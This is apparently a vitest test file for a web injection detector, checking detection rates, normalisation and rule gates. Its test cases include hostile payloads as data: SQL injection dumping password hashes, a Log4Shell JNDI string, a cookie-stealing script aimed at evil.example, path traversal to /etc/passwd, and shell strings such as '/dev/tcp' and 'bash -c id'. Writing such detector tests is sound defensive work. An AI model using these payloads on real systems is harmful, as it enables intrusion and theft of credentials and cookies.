import { describe, expect, it } from 'vitest';
import { measure, measureHoldout, readCorpus } from '../../../scripts/injection-rates.ts';
import {
  detectInjection,
  INJECTION_RULES,
  isOperatorKey,
  isOperatorParamName,
  normalise,
  passesGate,
} from './injection.ts';

describe('injection detector', () => {
  it.each([
    ["x' OR '1'='1", 'sql'],
    ["x' UNION SELECT id, id, id, username, password_hash, email, 0 FROM users -- ", 'sql'],
    ["x%' AND 2106=2106 AND '%'='", 'sql'],
    ['1 UNION/**/SELECT/**/password/**/FROM/**/users', 'sql'],
    ['{"$where": "sleep(1000)"}', 'nosql'],
    ['hi; echo RAMPART_$((6*7))', 'command'],
    ['..%2F..%2Fetc%2Fpasswd', 'path-traversal'],
    ['{{7*7}}', 'template'],
    ['${jndi:ldap://evil.example/a}', 'template'],
    ['<script>fetch("//evil.example/?c="+document.cookie)</script>', 'script'],
    ['&#60;img src=x onerror=alert(1)&#62;', 'script'],
  ])('%s is %s', (value, kind) => {
    expect(detectInjection(value)?.kind).toBe(kind);
  });
  it.each([
    "Seán O'Brien",
    'Please select one from the list below and send it back to us.',
    "I can't make it on Monday; could we move the appointment to Tuesday?",
    'He said: "I\'ll be there at 10", but never showed up.',
    'Type 1 diabetic; type 2 runs in the family.',
    'Union members get a discount on the gym membership.',
    'Dose > 2 tablets may cause drowsiness.',
  ])('passes ordinary text: %s', (value) => {
    expect(detectInjection(value)).toBeUndefined();
  });
  it('limits detection to the kinds asked for', () => {
    expect(detectInjection('<script>alert(1)</script>', new Set(['sql']))).toBeUndefined();
  });
  it('normalises encodings and inline comments', () => {
    expect(normalise('%253Cscript%253E')).toBe('<script>');
    expect(normalise('UNION/**/SELECT')).toMatch(/^union\s+select$/);
    expect(normalise('\\u003cSVG')).toBe('<svg');
  });
  it('operator keys and parameter names', () => {
    expect(isOperatorKey('$ne')).toBe(true);
    expect(isOperatorKey('$')).toBe(false);
    expect(isOperatorKey('price$')).toBe(false);
    expect(isOperatorParamName('password[$ne]')).toBe(true);
    expect(isOperatorParamName('filter[min]')).toBe(false);
  });
  it('corpus: ≥ 500 attacks detected at ≥ 97 %, ≥ 500 benign strings with ≤ 1 % false positives', () => {
    const r = measure();
    expect(r.attacks.total).toBeGreaterThanOrEqual(500);
    expect(r.benign.total).toBeGreaterThanOrEqual(500);
    expect(r.attacks.detected / r.attacks.total).toBeGreaterThanOrEqual(0.97);
    expect(r.benign.flagged / r.benign.total).toBeLessThanOrEqual(0.01);
    for (const [kind, k] of Object.entries(r.attacks.byKind))
      expect(k.detected / k.total, kind).toBeGreaterThanOrEqual(0.9);
  });
  it('hold-out set (never tuned against): ≥ 90 % detected, ≤ 5 % false positives', () => {
    const h = measureHoldout();
    expect(h.detected / h.attacks).toBeGreaterThanOrEqual(0.9);
    expect(h.flagged / h.benign).toBeLessThanOrEqual(0.05);
  });
  it('every rule gate lets through all that its regex matches (corpus and hand-made edge cases)', () => {
    // A gate that forgets a way its rule matches would silently skip the rule: so each
    // rule runs ungated on every corpus string (attacks, benign, both hold-outs) and on
    // edge cases written for the gates' alternatives; where it matches, its gate must pass.
    const values = [
      ...(['attacks', 'benign', 'holdout-attacks', 'holdout-benign'] as const).flatMap((n) =>
        readCorpus(n).map((e) => e.value),
      ),
      "a' or 1 like 1",
      'x || 1 regexp 1',
      'x and 1 is null',
      "') -- ",
      'x # ',
      '1 order by 3 --',
      'sysobjects',
      'syscolumns',
      '@@version',
      'mysql.user',
      'into outfile',
      'union select',
      'env -i sh',
      '/dev/tcp/1.2.3.4/80',
      'bash -c id',
      '| sh',
      '\u0000',
      'x%00',
      '@(1+1)',
      '{php}',
      '{# x #}',
      '<%= 7*7 %>',
      '$class.inspect',
      'freemarker.template',
      'behavior: url(x)',
      '-moz-binding: url(x)',
      'alert`1`',
      '..',
      'x\n cat /etc/passwd',
      'a\r\nid',
      'data:text/html,x',
      'boot.ini',
      'x=.env',
      ':web.config',
      '/.htaccess',
      '=wp-config.php',
      'c:\\windows\\win.ini',
      'this.x == 1',
      'db.users.find(',
      "'; return this.a",
    ];
    let matched = 0;
    for (const value of values) {
      const v = normalise(value);
      for (const r of INJECTION_RULES) {
        if (!r.re.test(v)) continue;
        matched++;
        expect(passesGate(r, v), `${r.id} on ${JSON.stringify(value)}`).toBe(true);
      }
    }
    expect(matched).toBeGreaterThan(500);
    // And the gates do their job: ordinary prose reaches few rules.
    const prose = normalise('Gift wrap, please; no invoice in the box.');
    expect(INJECTION_RULES.filter((r) => passesGate(r, prose)).map((r) => r.id)).toEqual([
      'sql-stacked',
      'cmd-separator',
    ]);
  });
});
